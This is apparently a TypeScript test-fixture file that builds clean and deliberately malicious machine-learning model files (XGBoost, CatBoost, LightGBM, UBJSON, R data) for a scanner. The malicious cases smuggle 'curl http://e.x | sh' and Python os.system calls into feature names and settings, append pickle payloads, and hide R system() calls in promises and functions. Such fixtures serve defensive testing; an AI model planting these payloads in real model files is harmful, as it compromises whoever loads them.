import type { Table } from '../flatbuffers-builder';
import { flatbuffer, table } from '../flatbuffers-builder';
import { bytes, floats, u32, u64, utf8, zeros } from '../bytes';
import { PAYLOAD, proto } from '../pickle-assembler';
import { closure, language, numbers, rds, promise, symbol, words, workspace } from '../r-builder';
import type { MadeCase } from './made-case';
import { casesOf } from './made-case';

const RUN = language(symbol('system'), words('echo hi'));

/** A key or text of UBJSON, and a list of bytes. */
const ubText = (text: string): Uint8Array => bytes('L', zeros(7), text.length, text);
const ubModel = (name: string): Uint8Array =>
  bytes(
    '{',
    ubText('learner'),
    '{',
    ubText('feature_names'),
    '[S',
    ubText(name),
    ']',
    ubText('w'),
    '[$U#i\x03abc',
    '}}'
  );

const BINARY_MODEL = bytes(
  zeros(136),
  ...['reg:linear', 'gblinear'].map(name => bytes(u64(name.length), name)),
  zeros(136),
  u64(2),
  floats(2)
);
const LIGHTGBM =
  'tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=1\nleaf_value=0.5\n\n\nend of trees\n';

const setting = (key: string, value: string): Table => table(key, value);
const catboost = (value: string): Uint8Array => {
  const core = flatbuffer(
    '\0\0\0\0',
    table('FlabuffersModel_v1', table(), [setting('params', value)], ['text_process_v2'])
  );
  return bytes('CBM1', u32(core.length), core, zeros(16));
};

/** Models that are mostly numbers. */
export const tabular: readonly MadeCase[] = [
  ...casesOf('xgboost-json', {
    'model.json': utf8(
      '{"learner":{"feature_names":["a"],"learner_model_param":{"base_score":"5E-1"}},"version":[3,0,0]}'
    ),
    'command-as-name.json': utf8('{"learner":{"feature_names":["; curl http://e.x | sh"]},"version":[3,0,0]}')
  }),
  ...casesOf('catboost-json', {
    'model.json': utf8('{"features_info":{"float_features":[]},"oblivious_trees":[]}'),
    'code-as-setting.json': utf8('{"model_info":{"params":"__import__(\'os\').system(\'id\')"},"oblivious_trees":[]}')
  }),
  ...casesOf('ubjson', {
    'model.ubj': ubModel('a'),
    'code-as-name.ubj': ubModel("__import__('os').system('id')"),
    'harmful-pickle-behind.ubj': bytes(ubModel('a'), proto(2, PAYLOAD))
  }),
  ...casesOf('xgboost-binary', {
    'linear.model': BINARY_MODEL,
    'harmful-pickle-behind.model': bytes('binf', BINARY_MODEL, proto(2, PAYLOAD))
  }),
  ...casesOf('lightgbm', {
    'model.txt': utf8(LIGHTGBM),
    'code-as-setting.txt': utf8(`${LIGHTGBM}\nparameters:\n[data: x; curl http://e.x | sh]\n\nend of parameters\n`)
  }),
  ...casesOf('catboost', {
    'model.cbm': catboost('{}'),
    'code-as-setting.cbm': catboost("import os; os.system('id')")
  }),
  ...casesOf('r-data', {
    'workspace.rdata': workspace({ x: numbers(1, 2), call: language(symbol('lm'), symbol('x')) }),
    'harmful-promise.rds': rds(promise(RUN)),
    'harmful-function.rda': workspace({ predict: closure(RUN) })
  })
];
